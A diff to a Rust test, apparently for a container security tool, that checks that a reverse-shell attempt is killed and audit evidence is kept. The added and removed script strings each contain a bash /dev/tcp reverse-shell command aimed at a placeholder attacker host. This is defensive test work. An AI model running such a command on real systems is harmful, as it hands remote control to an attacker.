@@ -421,12 +421,13 @@ fn evidence_is_kept_before_a_kill() {
     let coi = Coi::new();
     let name = coi.container();
     let attacker = Attacker::on_bridge();
-    let gate = Gate::new(&coi, "gate");
+    let (there, gate) = (Gate::new(&coi, "there"), Gate::new(&coi, "gate"));
     // Somebody else there has a secret in his arguments.
-    let script = "bash -c 'sleep 1000; :' x --password=hunter2hunter2 & exec 7</etc/hostname; read x <gate; \
-                  bash -i >& /dev/tcp/HOST/PORT 0>&1";
+    let script = "bash -c 'read x <there; sleep 1000; :' x --password=hunter2hunter2 & \
+                  exec 7</etc/hostname; read x <gate; bash -i >& /dev/tcp/HOST/PORT 0>&1";
     coi.write("script", attacker.fill(script));
     let run = coi.start(&["run", "--image", SMALL, "--", "bash", "script"]);
+    there.reached().open();
     gate.reached().open();
     coi.assert_killed(run.finish(), "reverse-shell-socket");
     let records = coi.audit(&name);
